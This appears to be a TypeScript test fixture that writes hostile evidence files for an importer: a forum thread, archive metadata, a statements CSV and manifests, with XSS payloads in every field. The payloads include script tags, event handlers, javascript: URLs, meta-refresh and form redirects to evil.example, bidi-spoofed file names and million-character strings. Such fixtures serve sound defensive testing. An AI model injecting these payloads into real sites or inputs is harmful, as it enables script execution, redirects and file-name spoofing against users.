/** Evidence with an attack in every field that is shown, made to the real formats. */
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import {
  STATEMENT_COLUMNS,
  type StatementColumn,
} from "../../src/importers/statements/statements.ts";

/** Each would set `attacked` on the window, or fetch from elsewhere, if it were not mere text. */
const ATTACKS = [
  "<script>window.attacked=1</script>",
  "<img src=x onerror=window.attacked=1>",
  '"><svg onload=window.attacked=1>',
  "' onfocus='window.attacked=1' autofocus='",
  "</blockquote></li></ol></main><script>window.attacked=1</script>",
  "</title></textarea><iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
  "<a href=javascript:window.attacked=1>x</a>",
  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/><form action=https://evil.example/><input name=from>",
  "<!--",
];
const BIDI = "\u202e\u2066 gnp.exe \u200f\u200b\ufeff";
export const ATTACK = `harmful ${ATTACKS.join(" ")} ${BIDI}`;
/** The same without blanks, for what may hold none. */
const SOLID = '"><svg/onload=window.attacked=1><img/src=x/onerror=window.attacked=1>';
export const LONG_WORD = "w".repeat(1_000_000);
const FAR_URL = `https://evil.example/"><svg/onload=window.attacked=1>/${"u".repeat(3000)}`;

const entities = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

const THREAD = {
  posts: [
    {
      ...{ no: 100, resto: 0, time: 1_494_009_300, now: "05/05/17(Fri)14:35:00", board: "pol" },
      ...{ name: ATTACK, trip: "!Ep8pui8Vw2", id: "AbCdEfGh", country: "XX", country_name: ATTACK },
      ...{ sub: entities(ATTACK), com: `${ATTACK}<br>${entities(ATTACK)}<br>${FAR_URL}` },
      ...{
        filename: ATTACK,
        ext: ATTACK,
        tim: 1,
        md5: ATTACK,
        capcode: ATTACK,
        semantic_url: ATTACK,
      },
    },
    {
      ...{
        no: 101,
        resto: 100,
        time: 1_494_009_400,
        now: "05/05/17(Fri)14:36:40",
        name: LONG_WORD,
      },
      ...{
        trip: "!!Ep8pui8Vw3",
        sub: LONG_WORD,
        com: `&gt;&gt;100<br>${LONG_WORD}`,
        country: "XX",
      },
      country_name: LONG_WORD,
    },
  ],
};

const ARCHIVE = {
  metadata: {
    ...{ identifier: "hostile_item", mediatype: ATTACK, title: ATTACK, description: ATTACK },
    ...{ subject: [ATTACK, SOLID, LONG_WORD], creator: ATTACK, language: ATTACK },
    ...{ publicdate: "2017-05-05 11:17:39", addeddate: "2017-05-05 11:17:39", collection: ATTACK },
  },
  files: [{ name: ATTACK, mtime: "1493983059" }],
};

type Row = Partial<Record<StatementColumn, string>>;
const SAID: Row = {
  as_written: ATTACK,
  source: ATTACK,
  source_url: `https://evil.example/${SOLID}`,
  source_date: ATTACK,
  via: ATTACK,
  quote: ATTACK,
};
const PASTE = "case:hostile/paste";
const TWEET = "twitter:status/860577607670276096";
const link: Row = { kind: "edge", relation: "LINKS_TO", dispute: ATTACK, ...SAID };
const published: Row = { kind: "time", relation: "published", zone: "UTC", ...SAID };
const ROWS: readonly Row[] = [
  { kind: "item", subject: PASTE, relation: "paste", object: `mill/${SOLID}`, ...SAID },
  { ...link, subject: "4chan:pol/100", object: PASTE },
  { ...link, subject: "4chan:pol/100", object: "archive.org:item/hostile_item", source: "Another" },
  { ...link, subject: "4chan:pol/100", object: FAR_URL, dispute: "" },
  { ...link, subject: TWEET, object: "4chan:pol/thread/100", dispute: "", quote: LONG_WORD },
  { ...published, subject: PASTE, not_after: "2017-05-05 18:00" },
  { ...published, subject: PASTE, not_before: "2017-05-05 18:10", source: LONG_WORD },
  { kind: "edge", subject: TWEET, relation: "POSTED_BY", object: "twitter:@victim", ...SAID },
  { kind: "edge", subject: TWEET, relation: "TAGGED", object: `tag:${SOLID}`, ...SAID },
  { kind: "edge", subject: TWEET, relation: "TAGGED", object: `tag:${"t".repeat(5000)}`, ...SAID },
  { kind: "edge", subject: TWEET, relation: "MENTIONS", object: "twitter:@other", ...SAID },
  { kind: "attribute", subject: PASTE, relation: ATTACK, object: ATTACK, value: ATTACK, ...SAID },
  {
    kind: "count",
    subject: TWEET,
    relation: LONG_WORD,
    value: LONG_WORD,
    unit: LONG_WORD,
    ...SAID,
  },
  { kind: "assertion", subject: PASTE, relation: ATTACK, value: LONG_WORD, unit: ATTACK, ...SAID },
  // These two fail, and their diagnostics are shown.
  { kind: "attribute", subject: PASTE, ...SAID, source_url: "javascript:window.attacked=1" },
  { kind: ATTACK, subject: ATTACK, relation: ATTACK, object: ATTACK, ...SAID },
];
const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const csv = [
  STATEMENT_COLUMNS.join(","),
  ...ROWS.map((row) => STATEMENT_COLUMNS.map((column) => cell(row[column] ?? "")).join(",")),
].join("\n");

const MANIFEST = {
  ...{
    origin: ATTACK,
    collected: "2017-05-06",
    collectedBy: ATTACK,
    note: `${ATTACK}\n${LONG_WORD}`,
  },
  zone: { name: "UTC", reason: "granted", note: ATTACK },
};

/** Writes the files into a folder, to be imported from there. */
export async function writeHostileEvidence(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true });
  const files = {
    [`thread ${SOLID.replaceAll("/", "\u2215")}.json`]: JSON.stringify(THREAD),
    [`item ${BIDI}.json`]: JSON.stringify(ARCHIVE),
    "<script>window.attacked=1<\u2215script>.csv": csv,
  };
  for (const [name, text] of Object.entries(files)) {
    await writeFile(join(folder, name), text);
    await writeFile(
      join(folder, `${name}.manifest.json`),
      JSON.stringify({
        ...MANIFEST,
        ...(name.startsWith("thread") ? { platform: "4chan/pol" } : {}),
      }),
    );
  }
}
